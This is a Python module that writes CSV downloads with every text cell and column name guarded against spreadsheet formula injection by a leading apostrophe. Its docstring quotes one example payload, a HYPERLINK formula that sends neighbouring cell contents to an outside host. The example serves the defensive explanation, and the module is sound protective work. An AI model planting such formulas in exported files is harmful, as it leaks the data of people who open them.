"""The one CSV writer: every download and every `--out` file goes through `csv_bytes`.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
return, which some strip first) as a formula, so a class, column or file name such as
`=HYPERLINK("http://host/?"&A1, "open")` would turn a downloaded table into a link that
sends its neighbours away, or worse. As OWASP advises, such text cells get a leading
apostrophe and open as the words they are. Numbers stay numbers: -0.5 in a numeric
column is written as -0.5, since a spreadsheet reads it as a number, never a formula;
only text is changed, a number stored as text ("-0.5") included.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["FORMULA_START", "csv_bytes", "safe_cell"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet should show it: text a spreadsheet would run gets a
    leading apostrophe; anything that is not text is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _is_plain_column(column: pd.Series) -> bool:
    """Numbers, booleans and dates: their cells are written by pandas and are never text."""
    dtype = column.dtype
    return (pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_bool_dtype(dtype)
            or pd.api.types.is_datetime64_any_dtype(dtype)) and not isinstance(dtype, pd.CategoricalDtype)


def csv_bytes(frame: pd.DataFrame, *, float_format: str | None = None) -> bytes:
    """`frame` (without its index) as UTF-8 CSV with every text cell and column name made
    safe for a spreadsheet (`safe_cell`)."""
    safe = pd.DataFrame({i: (column if _is_plain_column(column) else
                             column.astype(object).map(safe_cell, na_action="ignore"))
                         for i, (_, column) in enumerate(frame.items())})
    safe.columns = [safe_cell(str(name)) for name in frame.columns]
    return safe.to_csv(index=False, float_format=float_format, lineterminator="\n").encode("utf-8")
